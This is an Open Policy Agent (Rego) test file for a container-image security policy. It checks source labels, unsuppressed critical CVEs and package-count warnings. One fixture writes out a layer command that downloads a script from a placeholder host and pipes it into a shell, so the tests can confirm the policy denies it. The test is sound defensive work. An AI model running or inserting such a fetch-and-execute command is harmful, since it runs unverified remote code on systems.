package bosun.images

import rego.v1

base := {"inventory": {"config": {"labels": {"org.opencontainers.image.source": "https://example.com/app"}}, "layers": [], "packages": []}, "findings": []}

test_labelled_clean_image_passes if {
	count(deny) == 0 with input as base
}

test_missing_source_label_denies if {
	some msg in deny with input as {"inventory": {"config": {}, "layers": [], "packages": []}, "findings": []}
	contains(msg, "org.opencontainers.image.source")
}

test_curl_pipe_sh_layer_denies if {
	inp := json.patch(base, [{"op": "add", "path": "/inventory/layers", "value": [{"index": 3, "created_by": "RUN curl -fsSL https://x.example/i.sh | sh"}]}])
	some msg in deny with input as inp
	startswith(msg, "layer 3 pipes a download")
}

test_fixed_critical_denies_unless_suppressed if {
	f := {"id": "CVE-1", "severity": "CRITICAL", "status": "fixed", "fixed_versions": ["2"], "package": {"name": "p", "version": "1"}}
	count(deny) == 1 with input as json.patch(base, [{"op": "add", "path": "/findings", "value": [f]}])
	g := json.patch(f, [{"op": "add", "path": "/suppressed", "value": {"kind": "vex", "by": "x"}}])
	count(deny) == 0 with input as json.patch(base, [{"op": "add", "path": "/findings", "value": [g]}])
}

test_many_packages_only_warns if {
	pkgs := [{"name": sprintf("p%d", [i])} | some i in numbers.range(1, 501)]
	inp := json.patch(base, [{"op": "add", "path": "/inventory/packages", "value": pkgs}])
	count(deny) == 0 with input as inp
	count(warn) == 1 with input as inp
}
